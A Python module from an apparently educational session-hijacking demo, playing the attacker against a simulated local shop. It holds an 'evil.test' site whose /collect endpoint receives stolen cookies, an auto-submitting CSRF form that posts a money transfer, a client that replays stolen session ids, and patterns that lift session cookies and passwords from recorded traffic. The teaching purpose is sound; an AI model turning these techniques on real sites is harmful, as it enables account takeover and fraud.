@@ -1,0 +1,139 @@
+"""The attacker: his own site, his own client, and what he has got so far."""
+
+from __future__ import annotations
+
+import re
+from dataclasses import dataclass, replace
+
+from aiohttp import web
+
+from quizapp.demos.loopback import Loopback
+from quizapp.demos.session_hijacking.asking import Barrier
+from quizapp.demos.session_hijacking.shop import (
+    ATTACKER,
+    COOKIE,
+    PASSWORD,
+    REFUSED,
+    SHOP,
+    SIGNED_IN,
+    VICTIM,
+)
+from quizapp.demos.wire import Exchange
+
+EVIL = "evil.test"
+ORDER = f"to={ATTACKER}&amount=100"
+"""The transfer that he wants, as a form posts it."""
+_CSRF_FIELD = re.compile(r'name="csrf" value="([0-9a-f]+)"')
+_ID_LINE = re.compile(rf"(?:Set-)?Cookie: {COOKIE}=([0-9a-f]+)".encode())
+_PASSWORD_FIELD = re.compile(rf"password=({re.escape(PASSWORD)})".encode())
+
+
+@dataclass(frozen=True, slots=True)
+class Loot:
+    """What one attack has brought."""
+
+    id: str = ""
+    """The session id that he knows."""
+    password: str = ""
+    heard: int = 0
+    """Octets that his proxy has recorded of the attack."""
+    is_id_heard: bool = False
+    cookie_sent: bool = False
+    """A forged form carried the victim's cookie."""
+    read: bool = False
+    """He, or his script, saw the victim's account page."""
+    transferred: bool = False
+    barrier: str = Barrier.NOTHING
+    """What it failed at: a `Barrier`, or a `Reason` of the cookie jar."""
+
+    @property
+    def harm(self) -> bool:
+        """Something was done in the victim's name."""
+        return self.read or self.transferred
+
+    def after_reading(self, answer: Exchange) -> Loot:
+        """With what an account page brought."""
+        refusal = refused(answer)
+        read = text_of(answer).startswith(f"{SIGNED_IN}{VICTIM}")
+        return replace(self, read=self.read or read, barrier=refusal or self.barrier)
+
+    def after_ordering(self, answer: Exchange, transferred: bool) -> Loot:
+        """With what a transfer brought; ``transferred`` is what the shop's books say."""
+        barrier = refused(answer) or self.barrier
+        return replace(self, transferred=self.transferred or transferred, barrier=barrier)
+
+
+class AttackersSite:
+    """evil.test: takes what scripts bring along, and has a page with a form that posts itself."""
+
+    def __init__(self) -> None:
+        self.brought: list[str] = []
+        """What came as ``c``, oldest first."""
+        self.target = f"http://{SHOP}"
+
+    async def __call__(self, request: web.Request) -> web.StreamResponse:
+        """Answers one request."""
+        if request.path == "/collect":
+            self.brought.append(request.query.get("c", ""))
+            return web.Response(status=204)
+        fields = "".join(
+            f'<input type="hidden" name="{name}" value="{value}">'
+            for name, _, value in (pair.partition("=") for pair in ORDER.split("&"))
+        )
+        form = f'<form method="post" action="{self.target}/transfer">{fields}</form>'
+        return web.Response(
+            text=f"You have won!\n{form}\n<script>document.forms[0].submit()</script>",
+            content_type="text/html",
+        )
+
+
+class SecondClient:
+    """The attacker's own client, at home: it sends the Cookie header that he wants it to send."""
+
+    def __init__(self, home: Loopback, base: str) -> None:
+        self._home, self._base = home, base
+
+    async def get(self, path: str, id: str = "") -> Exchange:
+        """Asks for a page, with a session id or without."""
+        headers = {"Cookie": f"{COOKIE}={id}"} if id else {}
+        return await self._home.request("GET", self._base + path, headers)
+
+    async def order(self, id: str, page: Exchange, password: str) -> Exchange:
+        """Asks for the transfer, with all that the account page gave away and that he knows."""
+        headers = {
+            "Content-Type": "application/x-www-form-urlencoded",
+            "Cookie": f"{COOKIE}={id}",
+        }
+        return await self._home.request(
+            "POST", f"{self._base}/transfer", headers, order(page, password).encode()
+        )
+
+
+def order(page: Exchange, password: str = "") -> str:
+    """The transfer, with the CSRF token of an account page that could be read."""
+    token = _CSRF_FIELD.search(text_of(page))
+    fields = [ORDER, f"csrf={token[1]}" if token else "", f"password={password}" * bool(password)]
+    return "&".join(filter(None, fields))
+
+
+def id_in(recorded: bytes) -> str:
+    """The newest session id that can be read in what was recorded; empty if there is none."""
+    ids = _ID_LINE.findall(recorded)
+    return ids[-1].decode() if ids else ""
+
+
+def password_in(recorded: bytes) -> str:
+    """The password that can be read in what was recorded; empty if there is none."""
+    found = _PASSWORD_FIELD.search(recorded)
+    return found[1].decode() if found else ""
+
+
+def refused(answer: Exchange) -> str:
+    """Why the shop did nothing, by its own words; empty if it did something."""
+    text = text_of(answer)
+    return text.removeprefix(REFUSED) if text.startswith(REFUSED) else ""
+
+
+def text_of(answer: Exchange) -> str:
+    """The body of an answer."""
+    return answer.response_body.decode("utf-8", "replace")
